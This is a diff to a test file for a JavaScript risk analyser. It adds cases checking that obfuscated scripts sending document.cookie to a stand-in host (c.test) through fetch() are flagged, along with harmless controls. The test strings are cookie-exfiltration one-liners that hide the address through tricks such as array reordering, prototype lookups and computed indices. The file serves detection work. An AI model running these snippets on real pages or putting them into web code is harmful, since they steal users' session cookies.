@@ -62,6 +62,15 @@ const CHOSEN = [
 		"an address that was removed from a list",
 		`const l = ["https://c.test/?c=", "/x"]; l.reverse(); fetch(l[1] + document.cookie);`,
 	],
+	[
+		"an address behind a deleted one",
+		`const o = Object.create({ to: "https://c.test/?c=" }); o.to = "/x"; delete o.to; fetch(o.to + document.cookie);`,
+	],
+	[
+		"the thirteenth of many addresses",
+		`const l = [${Array.from({ length: 12 }, (_, at) => `"/${at}?c="`).join()}, "https://c.test/?c="]; fetch(l[6 + 6] + document.cookie);`,
+	],
+	["a property whose name is known in part", `fetch("https://c.test/?c=" + document["cook" + String(n)]);`],
 	["a function by a condition", `(1 > 2 ? fetch : console.log)("https://c.test/?c=" + document.cookie);`],
 	["a function by a computed index", `[console.log, fetch][+(1 > 2)]("https://c.test/?c=" + document.cookie);`],
 	["a property by a condition", `fetch("https://c.test/?c=" + document[1 > 2 ? "cookie" : "title"]);`],
@@ -101,6 +110,29 @@ const HARMLESS = [
 
 describe("what only the skeptical run does not believe", () => {
 	test.each(HARMLESS)("stays green: %s", (_title, code) => {
+		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
+	});
+});
+
+/** Addresses that may name a stranger: worth a look, since the exact run proves nothing. */
+const DOUBTFUL = [
+	[
+		"exchanged text",
+		`fetch("/" + String(document.currentScript).replace("null", () => "/c.test/?c=") + document.cookie);`,
+	],
+	[
+		"text of the page between parts of its own",
+		`fetch("/" + ["/c.test", ""].join(document.title).split(" ").join("/?c=") + document.cookie);`,
+	],
+] as const;
+
+describe("a secret in an address that the script puts together with text of the page", () => {
+	test.each(DOUBTFUL)("is not green: %s", (_title, code) => {
+		expect(analyzeScript({ code }).risk_level).not.toBe("green");
+	});
+
+	test("stays green in a path of the page itself", () => {
+		const code = `fetch("/" + location.pathname.split("/")[1] + "/list").then((r) => r.json()).then(show);`;
 		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
 	});
 });
